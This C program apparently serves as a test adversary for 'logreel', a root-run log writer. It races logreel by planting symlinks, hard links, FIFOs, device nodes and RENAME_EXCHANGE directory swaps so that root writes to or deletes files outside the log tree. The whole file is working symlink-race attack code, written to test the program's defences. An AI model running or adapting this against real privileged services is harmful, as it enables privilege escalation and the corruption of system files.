/*
 * The attacker owns a log directory and all directories down to it from BASE, in which root's
 * logreel writes. It puts links and other things in the place of whatever logreel may open,
 * make, rename, give away or delete, as fast as it can, for a number of rounds. Each link
 * leads to something below OUTSIDE, which is root's.
 *
 *     attacker BASE OUTSIDE YEAR FILE ROUNDS
 *
 * logreel writes BASE/app/logs/YEAR/FILE, then FILE.1 and so on. OUTSIDE has the same
 * directories, and files of such names.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *base, *outside, *year, *file;
static char spare[4096]; /* where things are made before they are put into a place */

static const char *text(const char *format, const char *a, const char *b)
{
	static char texts[16][4096];
	static int n;
	char *to = texts[n++ % 16];
	snprintf(to, sizeof texts[0], format, a, b);
	return to;
}

/* makes something under the spare name, and returns 0 if it has. */
static int make(void)
{
	unlink(spare);
	rmdir(spare);
	switch (rand() % 13) {
	case 0:
	case 1:
		return symlink(text("%s/victim", outside, 0), spare);
	case 2:
	case 3:
		return symlink(text("%s/new", outside, 0), spare);
	case 4:
		return symlink(text("%s/app/logs/%s", outside, year), spare);
	case 5:
	case 6:
		return link(text("%s/shared", outside, 0), spare);
	case 7:
		return mkfifo(spare, 0666);
	case 8:
		return mknod(spare, S_IFSOCK | 0666, 0);
	case 9: {
		int fd = open(spare, O_CREAT | O_WRONLY | O_EXCL, 0666);
		return fd < 0 ? -1 : write(fd, "planted\n", 8) != 8 | close(fd);
	}
	case 10:
		return mkdir(spare, 0777);
	case 11:
		return link(text("%s/link", outside, 0), spare); /* mostly forbidden (proc_sys_fs(5)) */
	default:
		return mknod(spare, S_IFCHR | 0666, 1 << 8 | 3); /* forbidden but in a container */
	}
}

/* puts something in a place, which has something else all the time or for a moment nothing. */
static void plant(const char *path)
{
	if (rand() % 8 == 0) {
		rename(path, text("%s/away", base, 0));
		return;
	}
	if (make() != 0)
		return;
	if (rand() % 2 && renameat2(AT_FDCWD, spare, AT_FDCWD, path, RENAME_EXCHANGE) == 0)
		return;
	rename(spare, path);
}

/* swaps a directory for a link to the same one outside, and back, again and again. */
static void swap(const char *below)
{
	const char *path = text("%s%s", base, below), *link = text("%s/way%d", base, 0);
	unlink(link);
	if (symlink(text("%s%s", outside, below), link) != 0)
		return;
	for (int i = 2 * (1 + rand() % 40); i > 0; i--)
		renameat2(AT_FDCWD, link, AT_FDCWD, path, RENAME_EXCHANGE);
	unlink(link);
}

/* moves a directory away, makes a link in its place, and undoes that. */
static void move(const char *below)
{
	const char *path = text("%s%s", base, below), *away = text("%s/moved", base, 0);
	if (rename(path, away) != 0)
		return;
	symlink(text("%s%s", outside, below), path);
	usleep(rand() % 300);
	unlink(path);
	rename(away, path);
}

/* returns the highest number of a file. */
static int highest(const char *dir)
{
	int most = 0;
	DIR *d = opendir(dir);
	for (struct dirent *e; d && (e = readdir(d)); ) {
		const char *at = strstr(e->d_name, file);
		if (at && at[strlen(file)] == '.' && atoi(at + strlen(file) + 1) > most)
			most = atoi(at + strlen(file) + 1);
	}
	if (d)
		closedir(d);
	return most;
}

/* returns the name at which logreel makes a link before it renames it. */
static const char *temporary(const char *name)
{
	uint64_t sum = 14695981039346656037u; /* FNV-1a */
	for (const char *c = name; *c; c++)
		sum = (sum ^ (unsigned char)*c) * 1099511628211u;
	char hex[32];
	snprintf(hex, sizeof hex, "%016llx", (unsigned long long)sum);
	return text("%s/app/logs/.logreel-%s.tmp", base, hex);
}

/* returns a path that logreel may use next. */
static const char *target(void)
{
	static const char *links[] = {"now", "previous", "hard"};
	static const char *forms[] = {"%s/%s", "%s/%s", "%s/%s", "%s/%s", "%s/%s.gz", "%s/.%s.pending", "%s/.%s.handed", "%s/.%s.gz.tmp", "%s/.%s.gz.done"};
	const char *link = links[rand() % 3];
	switch (rand() % 8) {
	case 0:
		return text("%s/app/logs/%s", base, link);
	case 1:
		return temporary(link);
	}
	const char *dir = text("%s/app/logs/%s", base, year);
	char name[512], number[16] = "";
	int n = highest(dir) - 2 + rand() % 5;
	if (n > 0)
		snprintf(number, sizeof number, ".%d", n);
	snprintf(name, sizeof name, "%s%s", file, number);
	return text(forms[rand() % (sizeof forms / sizeof *forms)], dir, name);
}

/* removes what was planted, and lets logreel do something. */
static void rest(void)
{
	const char *dir = text("%s/app/logs/%s", base, year);
	DIR *d = opendir(dir);
	for (struct dirent *e; d && (e = readdir(d)); ) {
		const char *path = text("%s/%s", dir, e->d_name);
		struct stat st;
		if (lstat(path, &st) == 0 && !(S_ISREG(st.st_mode) && st.st_nlink == 1)) {
			unlink(path);
			rmdir(path);
		}
	}
	if (d)
		closedir(d);
	if (rand() % 4 == 0)
		rename(dir, text("%s/year", base, 0)); /* it has to be made anew */
	for (int i = 0; i < 3; i++) {
		static const char *links[] = {"now", "previous", "hard"};
		unlink(text("%s/app/logs/%s", base, links[i]));
		unlink(temporary(links[i]));
	}
	usleep(15000);
	/* What is found at the next pass. */
	mkdir(text("%s/app/logs/%s", base, "2001"), 0777);
	int fd = open(text("%s/app/logs/2001/%s", base, "2001-01-01.log"), O_CREAT | O_WRONLY, 0666);
	if (fd >= 0)
		close(fd);
}

int main(int argc, char **argv)
{
	if (argc != 6)
		return 2;
	base = argv[1], outside = argv[2], year = argv[3], file = argv[4];
	snprintf(spare, sizeof spare, "%s/spare", base);
	umask(0);
	const char *directories[] = {"/app", "/app/logs", "/app/logs/2001", text("/app/logs/%s", year, 0)};
	char this[4096];
	snprintf(this, sizeof this, "/app/logs/%s", year);
	directories[3] = this;
	for (long round = 0; round < atol(argv[5]); round++) {
		if (round % 100 == 0)
			rest();
		switch (rand() % 8) {
		case 0:
		case 1:
			swap(directories[rand() % 4]);
			break;
		case 2:
			move(directories[rand() % 4]);
			break;
		default:
			plant(target());
		}
	}
	return 0;
}
